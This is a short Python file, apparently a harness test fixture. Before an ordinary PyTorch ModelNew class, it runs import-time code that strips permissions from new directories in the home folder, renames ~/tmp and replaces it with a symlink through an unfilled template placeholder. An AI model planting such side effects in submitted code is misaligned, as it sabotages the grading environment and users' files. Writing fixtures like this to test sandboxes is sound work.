"""Takes all permissions from its directories, and puts a link where its temp was."""

import os

import torch
import torch.nn as nn

WORLD = "@WORLD@"

home = os.path.expanduser("~")
try:
    os.makedirs(home + "/locked/inner", exist_ok=True)
    open(home + "/locked/inner/file", "w").close()
    os.chmod(home + "/locked/inner", 0)
    os.chmod(home + "/locked", 0)
    os.rename(home + "/tmp", home + "/tmp.away")
    os.symlink(WORLD["dir"], home + "/tmp")
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x, y):
        z = torch.tanh(x * y) + x
        return z / z.abs().mean(dim=-1, keepdim=True)
